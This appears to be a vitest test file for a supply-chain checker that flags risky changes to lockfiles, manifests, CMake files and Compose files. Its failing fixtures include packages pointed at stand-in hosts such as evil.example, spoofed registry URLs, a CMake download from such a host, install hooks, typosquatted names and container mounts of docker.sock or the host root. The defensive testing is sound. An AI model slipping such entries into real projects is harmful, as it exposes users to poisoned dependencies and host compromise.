import { describe, expect, it } from 'vitest'
import { addedLines } from '../added-lines.ts'
import { dependencyFindings } from './dependency-findings.ts'
import { lockReaderFor } from './read-lockfile.ts'

const found = (path: string, before: string | null, after: string): readonly string[] => {
  const findings = dependencyFindings([{ path, before, after, addedLines: addedLines(before, after), isProtected: true, problem: null }])
  return [...new Set(findings.map(({ rule, weight }) => (weight === 'deny' ? `${rule} deny` : rule)))]
}
const digest = (letter: string): string => `sha512-${letter.repeat(86)}==`
const npmOf = (packages: object, more: object = {}): string => `${JSON.stringify({ name: 'x', lockfileVersion: 3, ...more, packages: { '': { name: 'x' }, ...packages } }, null, 2)}\n`
const leftPad = { version: '1.3.0', resolved: 'https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz', integrity: digest('a') }
const lock = npmOf({ 'node_modules/left-pad': leftPad })
const withEntry = (entry: object, name = 'node_modules/other'): string => npmOf({ 'node_modules/left-pad': leftPad, [name]: entry })
const other = { version: '2.0.0', resolved: 'https://registry.npmjs.org/other/-/other-2.0.0.tgz', integrity: digest('b') }

describe('package-lock.json', () => {
  it.each([
    ['a package more', withEntry(other)],
    ['an update', npmOf({ 'node_modules/left-pad': { ...leftPad, version: '1.3.1', resolved: leftPad.resolved.replace('1.3.0', '1.3.1'), integrity: digest('c') } })],
    ['a better digest of the same version', npmOf({ 'node_modules/left-pad': { ...leftPad, integrity: `sha256-${'d'.repeat(43)}=` } })],
    ['a package hoisted', npmOf({ 'node_modules/a/node_modules/left-pad': leftPad })],
    ['a workspace', withEntry({ resolved: 'packages/core', link: true }, 'node_modules/core')],
    ['one within another', withEntry({ version: '1.0.0', inBundle: true })],
    ['without addresses', withEntry({ version: '1.0.0', integrity: digest('e') })],
    ['JSR', withEntry({ version: '1.0.0', name: '@jsr/std__path', resolved: 'https://npm.jsr.io/~/11/@jsr/std__path/1.0.0.tgz', integrity: digest('f') })],
  ])('lets %s pass', (_, after) => expect(found('package-lock.json', lock, after)).toEqual([]))

  it('knows the hosts that packages come from already', () => {
    const own = { version: '1.0.0', resolved: 'https://npm.pkg.github.com/download/@o/a/1.0.0/0123456789abcdef', integrity: digest('b') }
    const before = npmOf({ 'node_modules/@o/a': own })
    expect(found('package-lock.json', before, npmOf({ 'node_modules/@o/a': own, 'node_modules/@o/b': { ...own, resolved: own.resolved.replace('/a/', '/b/'), integrity: digest('c') } }))).toEqual([])
    expect(found('package-lock.json', lock, withEntry(own, 'node_modules/@o/a'))).toEqual(['dependency-foreign-host'])
  })

  it.each([
    ['another host', withEntry({ ...other, resolved: 'https://evil.example/other/-/other-2.0.0.tgz' }), 'dependency-foreign-host'],
    ['a host that begins like one', withEntry({ ...other, resolved: 'https://registry.npmjs.org.evil.example/other/-/other-2.0.0.tgz' }), 'dependency-foreign-host'],
    ['a host behind a name', withEntry({ ...other, resolved: 'https://registry.npmjs.org@evil.example/other/-/other-2.0.0.tgz' }), 'dependency-foreign-host'],
    ['a plain connection', withEntry({ ...other, resolved: other.resolved.replace('https', 'http') }), 'dependency-foreign-host'],
    ['a repository', withEntry({ version: '1.0.0', resolved: 'git+ssh://git@github.com/o/other.git#0123456789012345678901234567890123456789' }), 'dependency-not-from-registry'],
    ['an archive of a repository', withEntry({ version: '1.0.0', resolved: 'https://codeload.github.com/o/other/tar.gz/main', integrity: digest('b') }), 'dependency-not-from-registry'],
    ['an address', withEntry({ version: '1.0.0', resolved: 'https://registry.npmjs.org/files/other.zip', integrity: digest('b') }), 'dependency-not-from-registry'],
    ['a file', withEntry({ version: '1.0.0', resolved: 'file:../other.tgz', integrity: digest('b') }), 'dependency-not-from-registry'],
    ['a link out of the tree', withEntry({ resolved: '../other', link: true }), 'dependency-not-from-registry'],
    ['no digest', withEntry({ version: '2.0.0', resolved: other.resolved }), 'dependency-without-integrity'],
    ['a digest taken away', npmOf({ 'node_modules/left-pad': { ...leftPad, integrity: undefined } }), 'dependency-without-integrity'],
    ['another digest', npmOf({ 'node_modules/left-pad': { ...leftPad, integrity: digest('z') } }), 'dependency-integrity-changed deny'],
    ['another digest in another place', npmOf({ 'node_modules/a/node_modules/left-pad': { ...leftPad, integrity: digest('z') } }), 'dependency-integrity-changed deny'],
    ['another digest in the part for old readers', npmOf({ 'node_modules/left-pad': leftPad }, { dependencies: { 'left-pad': { ...leftPad, integrity: digest('z') } } }), 'dependency-integrity-changed deny'],
    ['a script', withEntry({ ...other, hasInstallScript: true }), 'dependency-runs-on-install'],
    ['another package under the name', npmOf({ 'node_modules/left-pad': { ...leftPad, version: '1.3.1', resolved: 'https://registry.npmjs.org/right-pad/-/right-pad-1.3.1.tgz', integrity: digest('c') } }), 'dependency-under-other-name'],
    ['no JSON', '{', 'lockfile-unreadable'],
  ])('finds %s', (_, after, rule) => expect(found('package-lock.json', lock, after)).toContain(rule))
})

describe('other lockfiles', () => {
  const yarn = (entry: string): string => `# yarn lockfile v1\n\n\nleft-pad@^1.0.0:\n  version "1.3.0"\n  resolved "https://registry.yarnpkg.com/left-pad/-/left-pad-1.3.0.tgz#5b8a3a7765dfe001261dde915589e782f8c94d1e"\n  integrity ${digest('a')}\n${entry}`
  const berry = (entry: string): string => `__metadata:\n  version: 8\n\n"left-pad@npm:^1.0.0":\n  version: 1.3.0\n  resolution: "left-pad@npm:1.3.0"\n  checksum: 10c0/${'a'.repeat(128)}\n  languageName: node\n  linkType: hard\n${entry}`
  const pnpm = (entry: string): string => `lockfileVersion: '9.0'\n\npackages:\n\n  left-pad@1.3.0:\n    resolution: {integrity: ${digest('a')}}\n\n${entry}snapshots:\n\n  left-pad@1.3.0: {}\n`
  const poetry = (entry: string): string => `[[package]]\nname = "six"\nversion = "1.16.0"\ndescription = "x"\nfiles = [\n    {file = "six-1.16.0.whl", hash = "sha256:${'a'.repeat(64)}"},\n]\n${entry}\n[metadata]\nlock-version = "2.0"\n`
  const uv = (entry: string): string => `version = 1\n\n[[package]]\nname = "six"\nversion = "1.16.0"\nsource = { registry = "https://pypi.org/simple" }\nsdist = { url = "https://files.pythonhosted.org/packages/a/six-1.16.0.tar.gz", hash = "sha256:${'a'.repeat(64)}", size = 1 }\nwheels = [\n    { url = "https://files.pythonhosted.org/packages/b/six-1.16.0.whl", hash = "sha256:${'b'.repeat(64)}", size = 1 },\n]\n${entry}`
  const pipfile = (entry: object, sources: object[] = [{ name: 'pypi', url: 'https://pypi.org/simple', verify_ssl: true }]): string => JSON.stringify({ _meta: { sources }, default: { six: { hashes: [`sha256:${'a'.repeat(64)}`], version: '==1.16.0' }, ...entry } }, null, 2)

  it.each([
    ['yarn.lock', yarn(''), yarn(`\nother@^2.0.0:\n  version "2.0.0"\n  resolved "https://registry.yarnpkg.com/other/-/other-2.0.0.tgz#${'1'.repeat(40)}"\n  integrity ${digest('b')}\n`)],
    ['yarn.lock', berry(''), berry(`\n"other@npm:^2.0.0":\n  version: 2.0.0\n  resolution: "other@npm:2.0.0"\n  checksum: 10c0/${'b'.repeat(128)}\n\n"x@workspace:.":\n  version: 0.0.0-use.local\n  resolution: "x@workspace:."\n`)],
    ['pnpm-lock.yaml', pnpm(''), pnpm(`  '@o/other@2.0.0':\n    resolution: {integrity: ${digest('b')}}\n    engines: {node: '>=4'}\n\n`)],
    ['poetry.lock', poetry(''), poetry(`\n[[package]]\nname = "idna"\nversion = "3.0"\nfiles = [\n    {file = "idna-3.0.whl", hash = "sha256:${'c'.repeat(64)}"},\n]\n`)],
    ['uv.lock', uv(''), uv(`\n[[package]]\nname = "idna"\nversion = "3.0"\nsource = { registry = "https://pypi.org/simple" }\nwheels = [\n    { url = "https://files.pythonhosted.org/packages/c/idna-3.0.whl", hash = "sha256:${'c'.repeat(64)}" },\n]\n`)],
    ['Pipfile.lock', pipfile({}), pipfile({ idna: { hashes: [`sha256:${'c'.repeat(64)}`], version: '==3.0' } })],
    ['poetry.lock', poetry(`\n[[package]]\nname = "own"\nversion = "1.0"\nfiles = [{file = "a.whl", hash = "sha256:${'d'.repeat(64)}"}]\n\n[package.source]\ntype = "legacy"\nurl = "https://wheels.example/simple"\nreference = "own"\n`), poetry(`\n[[package]]\nname = "own"\nversion = "1.1"\nfiles = [{file = "a.whl", hash = "sha256:${'e'.repeat(64)}"}]\n\n[package.source]\ntype = "legacy"\nurl = "https://wheels.example/simple"\nreference = "own"\n`)],
  ])('%s: an honest update passes', (path, before, after) => expect(found(path, before, after)).toEqual([]))

  it.each([
    ['yarn.lock', yarn(''), yarn(`\nother@^2.0.0:\n  version "2.0.0"\n  resolved "https://evil.example/other/-/other-2.0.0.tgz#${'1'.repeat(40)}"\n  integrity ${digest('b')}\n`), 'dependency-foreign-host'],
    ['yarn.lock', yarn(''), yarn('').replace(digest('a'), digest('b')).replace('5b8a3a7765dfe001261dde915589e782f8c94d1e', '1'.repeat(40)), 'dependency-integrity-changed deny'],
    ['yarn.lock', yarn(''), yarn('\n"other@github:o/other":\n  version "2.0.0"\n  resolved "https://codeload.github.com/o/other/tar.gz/0123"\n'), 'dependency-not-from-registry'],
    ['yarn.lock', berry(''), berry('').replace('a'.repeat(128), 'b'.repeat(128)), 'dependency-integrity-changed deny'],
    ['yarn.lock', berry(''), berry('\n"other@https://evil.example/o.tgz":\n  version: 2.0.0\n  resolution: "other@https://evil.example/o.tgz"\n'), 'dependency-foreign-host'],
    ['yarn.lock', berry(''), berry('\n"other@npm:^2.0.0":\n  version: 2.0.0\n  resolution: "other@npm:2.0.0::__archiveUrl=https%3A%2F%2Fevil.example%2Fo.tgz"\n  checksum: 10c0/1234567890123456789012\n'), 'dependency-foreign-host'],
    ['pnpm-lock.yaml', pnpm(''), pnpm(`  other@2.0.0:\n    resolution: {integrity: ${digest('b')}, tarball: https://evil.example/o.tgz}\n\n`), 'dependency-foreign-host'],
    ['pnpm-lock.yaml', pnpm(''), pnpm('  other@2.0.0:\n    resolution: {tarball: https://registry.npmjs.org/other/-/other-2.0.0.tgz}\n\n'), 'dependency-without-integrity'],
    ['pnpm-lock.yaml', pnpm(''), pnpm('').replace(digest('a'), digest('b')), 'dependency-integrity-changed deny'],
    ['pnpm-lock.yaml', pnpm(''), pnpm('  other@https://codeload.github.com/o/other/tar.gz/0123:\n    resolution: {tarball: https://codeload.github.com/o/other/tar.gz/0123}\n\n'), 'dependency-not-from-registry'],
    ['pnpm-lock.yaml', pnpm(''), pnpm(`  other@2.0.0:\n    resolution: {integrity: ${digest('b')}}\n    requiresBuild: true\n\n`), 'dependency-runs-on-install'],
    ['poetry.lock', poetry(''), poetry('').replace('a'.repeat(64), 'b'.repeat(64)), 'dependency-integrity-changed deny'],
    ['poetry.lock', poetry(''), poetry('\n[[package]]\nname = "idna"\nversion = "3.0"\nfiles = []\n'), 'dependency-without-integrity'],
    ['poetry.lock', poetry(''), poetry('\n[[package]]\nname = "idna"\nversion = "3.0"\nfiles = []\n\n[package.source]\ntype = "git"\nurl = "https://github.com/o/idna.git"\n'), 'dependency-not-from-registry'],
    ['poetry.lock', poetry(''), poetry(`\n[[package]]\nname = "idna"\nversion = "3.0"\nfiles = [{file = "a", hash = "sha256:${'d'.repeat(64)}"}]\n\n[package.source]\ntype = "legacy"\nurl = "https://evil.example/simple"\n`), 'dependency-foreign-host'],
    ['uv.lock', uv(''), uv('\n[[package]]\nname = "idna"\nversion = "3.0"\nsource = { git = "https://github.com/o/idna?rev=1#2" }\n'), 'dependency-not-from-registry'],
    ['uv.lock', uv(''), uv('').replace('files.pythonhosted.org/packages/b', 'evil.example/b'), 'dependency-foreign-host'],
    ['Pipfile.lock', pipfile({}), pipfile({}, [{ url: 'https://evil.example/simple', verify_ssl: true }]), 'dependency-foreign-host'],
    ['Pipfile.lock', pipfile({}), pipfile({}, [{ url: 'https://pypi.org/simple', verify_ssl: false }]), 'dependency-foreign-host'],
    ['Pipfile.lock', pipfile({}), pipfile({ idna: { git: 'https://github.com/o/idna.git', ref: '1' } }), 'dependency-not-from-registry'],
  ])('%s: a bad one is found', (path, before, after, rule) => expect(found(path, before, after)).toContain(rule))

  it('are read in time, however many packages they hold', () => {
    const many = pnpm(Array.from({ length: 30_000 }, (_, index) => `  package-${index}@1.0.${index}:\n    resolution: {integrity: ${digest('b')}}\n\n`).join(''))
    const started = performance.now()
    expect(lockReaderFor('pnpm-lock.yaml')?.(many)?.size).toBe(30_001)
    expect(found('pnpm-lock.yaml', pnpm(''), many)).toEqual([])
    expect(performance.now() - started).toBeLessThan(5_000)
  })

  it.each([['yarn.lock', '# yarn lockfile v1\n' + 'a@'.repeat(50_000)], ['poetry.lock', '[[package]]\n'.repeat(20_000)], ['uv.lock', `[[package]]\n${'{ url = '.repeat(20_000)}`], ['pnpm-lock.yaml', `lockfileVersion: 1\npackages:\n${'  a@1:\n'.repeat(20_000)}`], ['CMakeLists.txt', 'FetchContent_Declare('.repeat(10_000)], ['poetry.lock', `[[package]]\n${'[metadata.files]\n'.repeat(10_000)}`], ['package-lock.json', `{"dependencies":${'{"a":{"dependencies":'.repeat(2_000)}{}${'}}'.repeat(2_000)}}`]])('%s of nonsense takes no forever', (path, text) => {
    const started = performance.now()
    found(path, null, text)
    expect(performance.now() - started).toBeLessThan(5_000)
  })
})

describe('manifests', () => {
  const manifest = (more: object): string => `${JSON.stringify({ name: 'x', ...more }, null, 2)}\n`
  it.each([
    ['package.json', manifest({}), manifest({ dependencies: { lodash: '^4.17.0' } })],
    ['package.json', manifest({ dependencies: { a: '1' } }), manifest({ dependencies: { a: '2' }, scripts: { test: 'x' } })],
    ['package.json', manifest({ dependencies: { react: '19' } }), manifest({ dependencies: { react: '19' }, devDependencies: { '@types/react': '19', preact: '10' } })],
    ['requirements.txt', 'numpy\n', 'numpy\nrequests==2.31.0\n# -i https://x\n'],
    ['pyproject.toml', '[project]\n', '[project]\ndependencies = ["numpy>=1"]\n'],
    ['environment.yml', 'channels:\n  - conda-forge\n', 'channels:\n  - conda-forge\ndependencies:\n  - numpy=1.2\n'],
    ['compose.yaml', 'services:\n', 'services:\n  db:\n    image: postgres:16\n    volumes:\n      - ./data:/data\n    ports:\n      - "127.0.0.1:5432:5432"\n'],
    ['CMakeLists.txt', 'project(x)\n', 'project(x)\nfind_package(fmt REQUIRED)\n# FetchContent_Declare(x URL http://a)\n'],
    ['vcpkg.json', '{}', '{ "dependencies": ["fmt"], "$schema": "https://raw.githubusercontent.com/microsoft/vcpkg-tool/main/docs/vcpkg.schema.json" }'],
  ])('%s: an ordinary change says nothing', (path, before, after) => expect(found(path, before, after)).toEqual([]))

  it.each([
    ['package.json', manifest({ dependencies: { a: 'git+https://github.com/o/a.git' } }), 'dependency-not-from-registry'],
    ['package.json', manifest({ dependencies: { a: 'o/a#main' } }), 'dependency-not-from-registry'],
    ['package.json', manifest({ dependencies: { a: 'https://evil.example/a.tgz' } }), 'dependency-not-from-registry'],
    ['package.json', manifest({ dependencies: { a: 'file:../a' } }), 'dependency-not-from-registry'],
    ['package.json', manifest({ overrides: { b: { a: 'github:o/a' } } }), 'dependency-not-from-registry'],
    ['package.json', manifest({ dependencies: { a: 'npm:evil@1' } }), 'dependency-under-other-name'],
    ['package.json', manifest({ scripts: { postinstall: 'node x.js' } }), 'dependency-runs-on-install'],
    ['package.json', manifest({ scripts: { prepare: 'node x.js' } }), 'dependency-runs-on-install'],
    ['package.json', manifest({ trustedDependencies: ['a'] }), 'dependency-runs-on-install'],
    ['package.json', manifest({ packageManager: 'pnpm@9' }), 'dependency-runs-on-install'],
    ['package.json', manifest({ dependencies: { lodahs: '1' } }), 'dependency-shadows'],
    ['package.json', manifest({ dependencies: { 'cross-envs': '1' } }), 'dependency-shadows'],
    ['package.json', manifest({ dependencies: { 'types-node': '1', fs: '1' } }), 'dependency-shadows'],
    ['package.json', manifest({ dependencies: { 'reac\u0442': '1' } }), 'dependency-shadows'],
    ['requirements.txt', '--extra-index-url https://evil.example\n', 'dependency-foreign-host'],
    ['requirements/dev.txt', '-i https://evil.example\n', 'dependency-foreign-host'],
    ['requirements.txt', 'a @ git+https://github.com/o/a\n', 'dependency-not-from-registry'],
    ['requirements.txt', '-e ../a\n', 'dependency-not-from-registry'],
    ['requirements.txt', 'reqeusts==2\n', 'dependency-shadows'],
    ['pyproject.toml', '[[tool.poetry.source]]\nname = "x"\n', 'dependency-foreign-host'],
    ['pyproject.toml', 'a = { git = "https://github.com/o/a" }\n', 'dependency-not-from-registry'],
    ['pyproject.toml', 'dependencies = ["a @ https://evil.example/a.whl"]\n', 'dependency-not-from-registry'],
    ['Pipfile', '[[source]]\nverify_ssl = false\n', 'dependency-foreign-host'],
    ['environment.yml', '  - https://evil.example/channel\n', 'dependency-foreign-host'],
    ['environment.yml', '  - pip:\n    - git+https://github.com/o/a\n', 'dependency-not-from-registry'],
    ['.npmrc', 'registry=https://evil.example\n', 'dependency-foreign-host'],
    ['.npmrc', 'ignore-scripts=false\n', 'dependency-runs-on-install'],
    ['.yarnrc.yml', 'checksumBehavior: update\n', 'dependency-without-integrity'],
    ['CMakeLists.txt', 'FetchContent_Declare(fmt\n  GIT_REPOSITORY https://github.com/fmtlib/fmt\n  GIT_TAG master)\n', 'dependency-without-integrity'],
    ['cmake/get.cmake', 'file(DOWNLOAD http://evil.example/x ${X})\n', 'dependency-foreign-host'],
    ['conanfile.py', 'class A(ConanFile):\n    python_requires = "x/1"\n', 'dependency-runs-on-install'],
    ['vcpkg.json', '{ "vcpkg-configuration": { "registries": [] } }', 'dependency-foreign-host'],
    ['compose.yml', '    privileged: true\n', 'container-reaches-host'],
    ['docker-compose.override.yml', '      - /var/run/docker.sock:/var/run/docker.sock\n', 'container-reaches-host'],
    ['compose.yml', '    network_mode: "host"\n', 'container-reaches-host'],
    ['compose.yml', '      - /:/host\n', 'container-reaches-host'],
    ['compose.yml', '    image: evil.example/x:1\n', 'dependency-foreign-host'],
    ['setup.py', 'setup(cmdclass={"install": X})\n', 'dependency-runs-on-install'],
  ])('%s with %j is found (%s)', (path, text, rule) => expect(found(path, path === 'package.json' ? manifest({}) : '', text)).toContain(rule))
})
